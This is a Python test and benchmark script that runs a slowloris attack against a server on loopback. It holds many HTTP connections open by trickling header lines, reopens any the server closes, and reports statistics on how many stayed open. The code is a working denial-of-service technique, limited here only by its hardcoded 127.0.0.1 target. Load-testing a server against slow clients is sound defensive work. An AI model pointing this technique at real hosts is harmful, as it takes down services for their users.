"""slowclients.py: a slowloris attack for tests and benchmarks, loopback only.

Opens CONNS connections to 127.0.0.1:PORT spread over ADDRS source addresses
(127.0.1.1, 127.0.1.2, ...), sends a request line, then one header line
every INTERVAL seconds and never ends the headers.  A connection the server
closes is opened again at once, as an attacker would.  Runs for SECONDS
and prints one JSON line: opened, closed_by_server, open_at_end.

    python3 slowclients.py PORT CONNS ADDRS INTERVAL SECONDS [PATH]
"""
import asyncio
import json
import sys


async def one(port, src, interval, stop, stats, path):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(src, 0))
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.2)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        try:
            writer.write(("GET %s HTTP/1.1\r\nHost: x\r\n" % path).encode())
            await writer.drain()
            n = 0
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                    if not data:
                        stats["closed_by_server"] += 1
                        break
                except asyncio.TimeoutError:
                    pass
                n += 1
                writer.write(b"X-Slow-%d: %d\r\n" % (n, n))
                await writer.drain()
        except (ConnectionError, OSError):
            stats["closed_by_server"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    port, conns, addrs, interval, seconds = int(sys.argv[1]), int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    path = sys.argv[6] if len(sys.argv) > 6 else "/healthz"
    stats = {"opened": 0, "closed_by_server": 0, "open": 0, "refused": 0}
    stop = asyncio.Event()
    tasks = []
    for i in range(conns):
        src = "127.0.1.%d" % (1 + i % addrs)
        tasks.append(asyncio.create_task(one(port, src, interval, stop, stats, path)))
        if i % 200 == 199:
            await asyncio.sleep(0.05)
    await asyncio.sleep(seconds)
    open_at_end = stats["open"]
    stop.set()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(dict(stats, open_at_end=open_at_end)), flush=True)


if __name__ == "__main__":
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    asyncio.run(main())
